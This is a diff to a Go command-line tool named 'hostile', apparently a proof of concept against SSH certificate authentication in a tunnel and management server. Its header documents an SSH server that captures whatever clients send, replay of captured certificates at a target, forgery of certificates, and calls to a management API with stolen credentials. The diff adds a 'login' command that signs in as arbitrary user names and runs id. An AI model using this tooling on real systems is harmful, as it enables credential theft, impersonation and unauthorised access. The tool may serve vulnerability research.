@@ -3,11 +3,12 @@
 //
 //	hostile serve                       an SSH server in the tunnel that lets everyone in and prints what they sent
 //	hostile replay TARGET USER CERT     signs in at TARGET (ADDRESS:PORT in the tunnel) with what was captured
+//	hostile login TARGET CERT NAME...   signs in with KEY as each NAME (quoted as in Go), and runs id
 //	hostile forge CERT FILE             writes the best forgery of CERT as FILE and FILE-cert.pub, for a real ssh
 //	hostile call URL CERT               calls the management server's API with what was captured
 //
-// CERT is a file with a certificate as serve printed it. With KEY=FILE in the environment, replay and call use that
-// private key and the certificate as it is: what its owner does, to see that this program can do it.
+// CERT is a file with a certificate as serve printed it, or as ssh reads it. With KEY=FILE in the environment, replay and
+// call use that private key and the certificate as it is: what its owner does, to see that this program can do it.
 package main
 
 import (
@@ -50,12 +51,14 @@ func run(ctx context.Context, args []string) error {
 		return serve(ctx)
 	case len(args) == 4 && args[0] == "replay":
 		return replay(ctx, args[1], args[2], args[3])
+	case len(args) > 3 && args[0] == "login":
+		return login(ctx, args[1], args[2], args[3:])
 	case len(args) == 3 && args[0] == "forge":
 		return forge(args[1], args[2])
 	case len(args) == 3 && args[0] == "call":
 		return call(ctx, args[1], args[2])
 	}
-	return errors.New("call it with serve, replay, forge or call")
+	return errors.New("call it with serve, replay, login, forge or call")
 }
 
 // taken is the machine that this program took over from its stopped service.
@@ -167,13 +170,15 @@ func readCertificate(file string) (*ssh.Certificate, error) {
 	if err != nil {
 		return nil, err
 	}
-	wire, err := base64.StdEncoding.DecodeString(strings.TrimSpace(string(b)))
+	k, _, _, _, err := ssh.ParseAuthorizedKey(b)
 	if err != nil {
-		return nil, err
-	}
-	k, err := ssh.ParsePublicKey(wire)
-	if err != nil {
-		return nil, err
+		wire, err := base64.StdEncoding.DecodeString(strings.TrimSpace(string(b)))
+		if err != nil {
+			return nil, err
+		}
+		if k, err = ssh.ParsePublicKey(wire); err != nil {
+			return nil, err
+		}
 	}
 	c, ok := k.(*ssh.Certificate)
 	if !ok {
